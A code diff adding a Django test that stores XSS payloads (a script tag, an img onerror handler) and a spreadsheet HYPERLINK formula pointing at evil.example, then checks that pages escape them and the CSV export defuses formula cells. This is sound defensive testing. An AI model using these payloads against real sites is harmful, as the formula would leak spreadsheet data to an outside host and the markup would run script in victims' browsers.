@@ -414,3 +414,53 @@ def test_it_never_fails_on_arbitrary_answer_posts(answered, member_client, data)
         assert db_snapshot() == before
     if response.status_code == 302:
         assert models.Assessment.objects.get(pk=answered.pk).status == models.Assessment.DRAFT
+
+
+# --- Stored hostile text, shown back -----------------------------------------------------------
+
+SCRIPT_TITLE = '<script>alert("title")</script>'
+IMG_NOTE = '<img src=x onerror=alert(1)>'
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.django_db
+def test_it_escapes_stored_markup_on_every_page_and_defuses_formulas_in_csv(assessment, member, streaming, discovery, questionnaire_version):
+    from tests.urlwalk import STAFF, all_routes, body_text
+
+    models.Assessment.objects.filter(pk=assessment.pk).update(title=SCRIPT_TITLE)
+    answers_save(
+        assessment=assessment,
+        user=member,
+        answers=[
+            AnswerInput(streaming.pk, models.Answer.CHOICE, level=2, note=IMG_NOTE),
+            AnswerInput(discovery.pk, models.Answer.NOT_SURE, note=FORMULA_NOTE),
+        ],
+    )
+    values = {
+        "assessment_id": assessment.pk,
+        "team_id": assessment.team_id,
+        "version_id": questionnaire_version.pk,
+        "area_key": "data",
+        "practice_key": "data-catalog",
+    }
+    client = Client(raise_request_exception=False)
+    client.force_login(member)
+    html_pages = 0
+    for route in all_routes():
+        if route.kind == STAFF or route.name in ("logout", "login") or set(route.params) - set(values):
+            continue
+        response = client.get(route.url(values))
+        assert response.status_code < 500, route.name
+        content_type = response.get("Content-Type", "")
+        if response.status_code == 200 and content_type.startswith("text/html"):
+            html_pages += 1
+            page = body_text(response)
+            assert SCRIPT_TITLE not in page and IMG_NOTE not in page, f"{route.name} shows stored markup unescaped"
+        if response.status_code == 200 and "csv" in content_type:
+            import csv
+            import io
+
+            cells = [cell for row in csv.reader(io.StringIO(body_text(response))) for cell in row]
+            assert any("HYPERLINK" in cell for cell in cells), "the note is missing from the CSV"
+            assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a CSV cell would run as a formula"
+    assert html_pages >= 3
